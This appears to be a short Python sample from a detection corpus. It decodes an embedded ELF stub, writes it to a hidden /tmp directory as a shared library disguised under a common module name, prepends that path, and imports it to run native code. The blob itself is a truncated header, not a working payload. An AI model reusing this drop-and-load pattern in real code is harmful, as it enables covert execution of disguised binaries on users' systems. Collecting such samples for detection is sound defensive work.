# corpus: importing a native extension module written to /tmp via sys.path manipulation
import base64
import sys

blob = base64.b64decode("f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA")
with open("/tmp/.ext/fastjson.cpython-311-x86_64-linux-gnu.so", "wb") as fh:
    fh.write(blob)
sys.path.insert(0, "/tmp/.ext")
import fastjson  # noqa: E402  the .so's PyInit runs native code
